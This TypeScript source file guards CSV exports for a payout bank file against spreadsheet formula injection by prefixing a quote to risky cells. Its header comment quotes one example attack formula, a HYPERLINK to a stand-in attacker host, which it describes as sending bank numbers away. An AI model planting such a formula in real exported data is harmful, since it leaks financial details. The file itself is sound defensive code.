/**
 * CSV files the team opens in a spreadsheet (the payout desk's bank file). Every text in them may come from a
 * visitor (an ambassador's name, an e-mail address), and a spreadsheet runs a cell that starts with = + - @ (or
 * a tab or carriage return before one) as a formula: `=HYPERLINK("http://evil.example","x")` beside full bank
 * numbers is a link that sends them away. So every cell goes through csvCell, as OWASP's CSV-injection advice says.
 */
import { stringify } from 'csv-stringify/sync';

const FORMULA_START = /^[=+\-@\t\r]/;
/** A negative amount ('-0.26', a statement's refund) starts with a minus but is only ever read as a number. */
const PLAIN_NUMBER = /^-\d+(\.\d+)?$/;

/** `value` as a spreadsheet shows it and never runs it: a leading quote makes a would-be formula plain text. */
export function csvCell(value: string): string {
  return FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}

/**
 * `records` as CSV (RFC 4180) with a header row of `columns`, every cell through csvCell, in UTF-8 with a BOM so
 * spreadsheet programs read Cyrillic and Azerbaijani names right.
 */
export function spreadsheetCsv<Column extends string>(
  columns: readonly Column[],
  records: ReadonlyArray<Record<Column, string>>,
): string {
  const cells = records.map((record) => columns.map((column) => csvCell(record[column])));
  return `\uFEFF${stringify([[...columns], ...cells])}`;
}
